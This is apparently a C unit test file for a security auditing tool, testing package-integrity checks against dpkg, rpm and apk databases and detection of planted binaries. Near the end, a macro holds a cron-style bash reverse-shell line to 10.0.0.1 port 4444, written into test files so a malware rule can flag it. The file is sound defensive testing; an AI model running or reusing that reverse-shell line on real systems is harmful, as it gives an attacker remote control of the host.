/* test_integrity.c — unit tests of the integrity family (INT-001..004): package file digests of
 * dpkg, rpm and apk against the files, programs of unknown origin */
/* SPDX-License-Identifier: Apache-2.0 */
#include "testlib.h"
#include "chk_fixture.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "checks/state.h"
#include "util/cleanup.h"
#include "util/limits.h"

static const char *const ids[] = {"INT-001", "INT-002", "INT-003", "INT-004"};

static void run_all(struct fx *x)
{
	for (size_t i = 0; i < 4; i++)
		fx_run(x, ids[i]);
}

/* md5("hello\n") */
#define HELLO_MD5 "b1946ac92492d2347c6235b4d2611184"

/* A Debian-like root whose one package "demo" records md5sums and conffiles. */
static char *dpkg_root(void)
{
	char *root = t_mkdtemp();

	t_write(root, "etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n", 0644);
	t_write(root, "var/lib/dpkg/status",
		"Package: demo\nStatus: install ok installed\nVersion: 1.0\nArchitecture: amd64\n"
		"Maintainer: x <x@example.org>\nConffiles:\n /etc/demo.conf " HELLO_MD5
		"\n /etc/demo2.conf " HELLO_MD5 "\n\n",
		0644);
	t_write(root, "var/lib/dpkg/info/demo.list",
		"/usr\n/usr/bin\n/usr/bin/demo\n/usr/bin/same\n/usr/bin/fifo-now\n/usr/bin/huge\n"
		"/usr/share\n/usr/share/demo\n/usr/share/demo/data\n/usr/share/demo/gone\n"
		"/etc/demo.conf\n/etc/demo2.conf\n",
		0644);
	t_write(root, "var/lib/dpkg/info/demo.md5sums",
		HELLO_MD5 "  usr/bin/demo\n" HELLO_MD5 "  usr/bin/same\n" HELLO_MD5
			  "  usr/bin/fifo-now\n" HELLO_MD5 "  usr/bin/huge\n" HELLO_MD5
			  "  usr/share/demo/data\n" HELLO_MD5 "  usr/share/demo/gone\n",
		0644);
	t_write(root, "usr/bin/demo", "tampered\n", 0755);
	t_write(root, "usr/bin/same", "hello\n", 0755);
	t_write(root, "usr/bin/fifo-now", "hello\n", 0755);
	t_write(root, "usr/bin/huge", "hello\n", 0755);
	t_write(root, "usr/share/demo/data", "changed\n", 0644);
	t_write(root, "etc/demo.conf", "edited\n", 0644);
	t_write(root, "etc/demo2.conf", "hello\n", 0644);
	/* programs no package lists, and files there that are none */
	assert_int_equal(t_sh("cp /usr/bin/true '%s/usr/bin/evil'", root), 0);
	t_write(root, "usr/local/bin/tool", "#!/bin/sh\necho hi\n", 0755);
	t_write(root, "usr/local/bin/notes", "not a script\n", 0755);
	t_write(root, "usr/lib/x86_64-linux-gnu/table.dat", "#!data, not executable\n", 0644);
	t_write(root, "usr/lib/x86_64-linux-gnu/__pycache__/m.cpython-311.pyc",
		"\x7f"
		"ELF",
		0755);
	t_write(root, "usr/sbin/policy-rc.d", "#!/bin/sh\nexit 101\n", 0755);
	return root;
}

static void check_dpkg_findings(struct fx *x, bool dir)
{
	const struct fnd_finding *f;

	/* the replaced system program, high; the FIFO where a file was recorded (directories
	 * only: the archive was packed before it was made) */
	assert_int_equal(fx_count(x, "INT-001"), dir ? 2 : 1);
	f = fx_find(x, "INT-001", "/usr/bin/demo");
	assert_non_null(f);
	assert_int_equal(f->severity, FND_SEV_HIGH);
	assert_non_null(strstr(f->title, "package demo"));
	assert_non_null(strstr(f->value, "md5 recorded " HELLO_MD5));
	assert_non_null(strstr(f->remediation, "apt-get install --reinstall demo"));
	if (dir) {
		f = fx_find(x, "INT-001", "/usr/bin/fifo-now");
		assert_non_null(f);
		assert_non_null(strstr(f->title, "replaced by a FIFO"));
		/* the sparse file past IA_MAX_DIGEST_FILE: not read, not examined */
		assert_int_equal(fx_gaps(x, "INT-001"), 1);
	}
	/* the data file elsewhere, medium; the absent one is not reported */
	assert_int_equal(fx_count(x, "INT-002"), 1);
	assert_int_equal(fx_find(x, "INT-002", "/usr/share/demo/data")->severity, FND_SEV_MEDIUM);
	/* exactly the edited conffile, low */
	assert_int_equal(fx_count(x, "INT-003"), 1);
	assert_int_equal(fx_find(x, "INT-003", "/etc/demo.conf")->severity, FND_SEV_LOW);
	assert_non_null(strstr(fx_find(x, "INT-003", "/etc/demo.conf")->title, "configuration"));
}

static void test_dpkg_dir_and_archive(void **state)
{
	_cleanup_free_ char *root = dpkg_root();
	_cleanup_free_ char *work = t_mkdtemp();
	_cleanup_free_ char *tar = NULL;
	struct fx x;

	(void)state;
	tar = fx_docker_save(work, root,
			     "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{},"
			     "\"rootfs\":{\"type\":\"layers\",\"diff_ids\":[\"sha256:@DIFF@\"]}}",
			     "demo:1");
	assert_int_equal(
		t_sh("cd '%s' && rm usr/bin/fifo-now && mkfifo usr/bin/fifo-now && "
		     "rm usr/bin/huge && truncate -s 3G usr/bin/huge && mkfifo usr/bin/pipe "
		     "&& truncate -s 4G usr/bin/sparse-unowned",
		     root),
		0);
	fx_open(&x, root);
	run_all(&x);
	check_dpkg_findings(&x, true);
	/* unknown origin: the ELF and the script; not the data, the FIFO, the sparse file, the
	 * non-script or what the allow-list names */
	assert_int_equal(fx_count(&x, "INT-004"), 2);
	assert_non_null(strstr(fx_find(&x, "INT-004", "/usr/bin/evil")->value, "ELF executable"));
	assert_non_null(strstr(fx_find(&x, "INT-004", "/usr/local/bin/tool")->value, "script"));
	fx_close(&x);

	fx_open_as(&x, tar, TGT_DOCKER_ARCHIVE);
	run_all(&x);
	assert_int_equal(fx_count(&x, "INT-001"), 1);
	assert_non_null(fx_find(&x, "INT-001", "/usr/bin/demo"));
	assert_int_equal(fx_count(&x, "INT-002"), 1);
	assert_int_equal(fx_count(&x, "INT-003"), 1);
	assert_int_equal(fx_count(&x, "INT-004"), 2);
	fx_close(&x);
	t_rmtree(work);
	t_rmtree(root);
}

/* No package database: nothing can be verified, every check NOT EXAMINED, never PASS. */
static void test_no_database(void **state)
{
	_cleanup_free_ char *root = t_mkdtemp();
	struct fx x;

	(void)state;
	t_write(root, "etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n", 0644);
	assert_int_equal(
		t_sh("mkdir -p '%s/usr/bin' && cp /usr/bin/true '%s/usr/bin/true'", root, root), 0);
	fx_open(&x, root);
	run_all(&x);
	assert_int_equal(x.r.n_findings, 0);
	for (size_t i = 0; i < 4; i++) {
		assert_int_equal(fx_gaps(&x, ids[i]), 1);
	}
	assert_non_null(strstr(x.r.gaps[0].reason, "no package database"));
	fx_close(&x);
	t_rmtree(root);
}

/* The real debootstrapped root (base: minbase and more): nothing modified, nothing of unknown
 * origin. */
static void test_debian_clean(void **state)
{
	_cleanup_free_ char *path = t_debian_root("base");
	struct fx x;

	(void)state;
	T_REQUIRE(path, "no debootstrapped root can be built here");
	fx_open(&x, path);
	run_all(&x);
	for (size_t i = 0; i < 4; i++)
		fx_clean(&x, ids[i]);
	fx_close(&x);
}

/* A copy of the real minbase root: a dpkg-owned binary overwritten and a conffile edited give
 * exactly one modified binary (high) and one changed configuration file (low); an ELF no
 * package owns in /usr/bin is of unknown origin. */
static void test_debian_modified(void **state)
{
	_cleanup_free_ char *path = t_debian_root("minbase");
	_cleanup_free_ char *root = NULL;
	struct fx x;

	(void)state;
	T_REQUIRE(path, "no debootstrapped root can be built here");
	root = t_mkdtemp();
	/* a full copy: hard links into the cached root would change the link count and ctime of
	 * its files while other tests read it (tar: "file changed as we read it"; the index's
	 * link counts) */
	assert_int_equal(t_sh("cp -a '%s/.' '%s/' && "
			      "cd '%s' && rm usr/bin/ls && "
			      "printf 'not ls\\n' > usr/bin/ls && chmod 755 usr/bin/ls && "
			      "rm etc/bash.bashrc && cp '%s/etc/bash.bashrc' etc/bash.bashrc && "
			      "echo 'alias ll=\"ls -l\"' >> etc/bash.bashrc && "
			      "cp usr/bin/cat usr/bin/evil",
			      path, root, root, path),
			 0);
	fx_open(&x, root);
	run_all(&x);
	assert_int_equal(fx_count(&x, "INT-001"), 1);
	assert_int_equal(fx_find(&x, "INT-001", "/usr/bin/ls")->severity, FND_SEV_HIGH);
	assert_non_null(strstr(fx_find(&x, "INT-001", "/usr/bin/ls")->title, "coreutils"));
	fx_clean(&x, "INT-002");
	assert_int_equal(fx_count(&x, "INT-003"), 1);
	assert_int_equal(fx_find(&x, "INT-003", "/etc/bash.bashrc")->severity, FND_SEV_LOW);
	assert_int_equal(fx_count(&x, "INT-004"), 1);
	assert_non_null(fx_find(&x, "INT-004", "/usr/bin/evil"));
	fx_close(&x);
	t_rmtree(root);
}

/* sha256 of nothing */
#define EMPTY_SHA256 "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"

/*
 * A root made of the real Amazon Linux 2023 rpm database: files placed at the paths it lists,
 * with the right content (an empty file where the recorded SHA-256 is that of nothing) and
 * with wrong content (a program, a %config file).
 */
static void test_rpm(void **state)
{
	_cleanup_free_ char *db = t_data("rpmdb/amazonlinux2023-plain/rpmdb.sqlite");
	_cleanup_free_ char *root = t_mkdtemp();
	char *prog = NULL, *conf = NULL, *empty = NULL;
	struct fx x;

	(void)state;
	assert_int_equal(
		t_sh("mkdir -p '%s/var/lib/rpm' && cp '%s' '%s/var/lib/rpm/'", root, db, root), 0);
	fx_open(&x, root);
	for (size_t i = 0; i < x.f.n_files; i++) {
		const struct inv_file *f = &x.f.files[i];

		if (!f->digest || f->algo != INV_DIGEST_SHA256)
			continue;
		if (!prog && !(f->flags & INV_FILE_CONFIG) && strncmp(f->path, "/usr/bin/", 9) == 0)
			prog = strdup(f->path);
		else if (!conf && (f->flags & INV_FILE_CONFIG) && strcmp(f->digest, EMPTY_SHA256))
			conf = strdup(f->path);
		else if (!empty && !(f->flags & INV_FILE_CONFIG) &&
			 strcmp(f->digest, EMPTY_SHA256) == 0)
			empty = strdup(f->path);
	}
	fx_close(&x);
	assert_non_null(prog);
	assert_non_null(conf);
	assert_non_null(empty);
	t_write(root, prog + 1, "replaced\n", 0755);
	t_write(root, conf + 1, "edited=1\n", 0644);
	t_write(root, empty + 1, "", 0644);
	assert_int_equal(t_sh("cp /usr/bin/true '%s/usr/bin/planted'", root), 0);
	fx_open(&x, root);
	run_all(&x);
	assert_int_equal(fx_count(&x, "INT-001"), 1);
	assert_non_null(strstr(fx_find(&x, "INT-001", prog)->value, "sha256 recorded"));
	assert_non_null(strstr(fx_find(&x, "INT-001", prog)->remediation, "dnf reinstall"));
	assert_int_equal(fx_count(&x, "INT-003"), 1);
	assert_non_null(fx_find(&x, "INT-003", conf));
	fx_clean(&x, "INT-002"); /* the empty file matches its digest */
	assert_non_null(fx_find(&x, "INT-004", "/usr/bin/planted"));
	assert_int_equal(fx_count(&x, "INT-004"), 1);
	fx_close(&x);
	free(prog);
	free(conf);
	free(empty);
	t_rmtree(root);
}

/* A reverse shell line the malware rules know (as in test_malware.c). */
#define REVSHELL "* * * * * root bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"

/* The MAL-001 finding of rule at path in x, or NULL. */
static const struct fnd_finding *mal_at(const struct fx *x, const char *path)
{
	for (size_t i = 0; i < x->r.n_findings; i++)
		if (strcmp(x->r.findings[i].check, "MAL-001") == 0 &&
		    strcmp(x->r.findings[i].path, path) == 0 &&
		    strstr(x->r.findings[i].value, "RevShell_Bash_Dev_TCP"))
			return &x->r.findings[i];
	return NULL;
}

/* Package programs too big to be read whole (over IA_SCAN_BLOCK) that the content scan wants:
 * YARA reads them in its blocks and the digest is made from the same bytes, so each is read
 * once (it was read twice, hashed then scanned). The intact one matches its digest, the
 * changed one is reported; both hold a reverse shell in their second block, found. */
static void test_big_files_one_read(void **state)
{
	_cleanup_free_ char *root = t_mkdtemp();
	unsigned size = IA_SCAN_BLOCK + 8192, at = IA_SCAN_BLOCK + 1000;
	struct ia_counters c = {0};
	struct tgt_opts to = {.kind = TGT_DIR, .counters = &c};
	struct ia_err err = {0};
	uint64_t after_int;
	struct fx x;

	(void)state;
	t_write(root, "etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n", 0644);
	t_write(root, "var/lib/dpkg/status",
		"Package: demo\nStatus: install ok installed\nVersion: 1.0\nArchitecture: amd64\n"
		"Maintainer: x <x@example.org>\n\n",
		0644);
	t_write(root, "var/lib/dpkg/info/demo.list",
		"/usr\n/usr/bin\n/usr/bin/big\n/usr/bin/bigmod\n", 0644);
	assert_int_equal(
		t_sh("set -e; cd '%s'; mkdir -p usr/bin; printf '#!/bin/sh\\n' > usr/bin/big; "
		     "truncate -s %u usr/bin/big; "
		     "printf '%%s\\n' '" REVSHELL "' | dd of=usr/bin/big bs=1 seek=%u conv=notrunc "
		     "status=none; chmod 755 usr/bin/big; cp usr/bin/big usr/bin/bigmod; "
		     "printf x | dd of=usr/bin/bigmod bs=1 seek=%u conv=notrunc status=none; "
		     "m=$(md5sum < usr/bin/big | cut -c1-32); "
		     "printf '%%s  usr/bin/big\\n%%s  usr/bin/bigmod\\n' $m $m "
		     "> var/lib/dpkg/info/demo.md5sums",
		     root, size, at, size - 10),
		0);
	memset(&x, 0, sizeof(x));
	if (chk_audit_open(root, &to, &x.t, &x.f, NULL, &err) < 0)
		fail_msg("chk_audit_open %s: %s", root, err.msg);
	fnd_init(&x.r);
	x.ctx = (struct chk_ctx){.tgt = x.t, .facts = &x.f, .rpt = &x.r, .opts = &x.o};
	fx_run(&x, "INT-001");
	fx_run(&x, "INT-002");
	fx_run(&x, "INT-003");
	assert_int_equal(fx_count(&x, "INT-001"), 1);
	assert_non_null(fx_find(&x, "INT-001", "/usr/bin/bigmod"));
	assert_int_equal(fx_gaps(&x, "INT-001"), 0);
	/* each read once, in YARA's blocks (overlapping by IA_SCAN_OVERLAP) */
	after_int = atomic_load(&c.bytes);
	if (after_int >= 2ull * (size + IA_SCAN_OVERLAP) + 65536)
		fail_msg("%llu bytes of content read for two files of %u",
			 (unsigned long long)after_int, size);
	fx_run(&x, "MAL-001");
	assert_int_equal(atomic_load(&c.bytes), after_int); /* nothing read again */
	assert_non_null(mal_at(&x, "/usr/bin/big"));
	assert_non_null(mal_at(&x, "/usr/bin/bigmod"));
	assert_int_equal(fx_gaps(&x, "MAL-001"), 0);
	fx_close(&x);
	t_rmtree(root);
}

/* apk's Q1 checksums (base64 SHA-1): a modified busybox is reported, an intact file is not. */
static void test_apk(void **state)
{
	_cleanup_free_ char *root = t_mkdtemp();
	struct fx x;

	(void)state;
	t_write(root, "etc/os-release", "ID=alpine\nVERSION_ID=3.18.4\n", 0644);
	/* Q1 of "hello\n" and of "#!/bin/sh\necho hi\n" */
	t_write(root, "lib/apk/db/installed",
		"P:busybox\nV:1.36.1-r2\nA:x86_64\nF:bin\nR:busybox\nZ:Q19XLTlvrpIGYocU+"
		"yzgD3LpTyJY8="
		"\nR:hi\nZ:Q1srYsEBoVb18S3XGXz3rpQkFksRU=\nR:link\nZ:Q19XLTlvrpIGYocU+yzgD3LpTyJY8="
		"\n\n",
		0644);
	t_write(root, "bin/busybox", "hello, modified\n", 0755);
	t_write(root, "bin/hi", "#!/bin/sh\necho hi\n", 0755);
	t_symlink(root, "bin/link", "busybox");
	fx_open(&x, root);
	run_all(&x);
	assert_int_equal(fx_count(&x, "INT-001"), 1);
	assert_non_null(strstr(fx_find(&x, "INT-001", "/bin/busybox")->value, "sha1 recorded"));
	assert_non_null(strstr(fx_find(&x, "INT-001", "/bin/busybox")->remediation, "apk fix"));
	fx_clean(&x, "INT-004");
	fx_close(&x);
	t_rmtree(root);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_dpkg_dir_and_archive),
		cmocka_unit_test(test_no_database),
		cmocka_unit_test(test_debian_clean),
		cmocka_unit_test(test_debian_modified),
		cmocka_unit_test(test_rpm),
		cmocka_unit_test(test_apk),
		cmocka_unit_test(test_big_files_one_read),
	};

	return T_RUN_GROUP(tests, NULL, NULL);
}
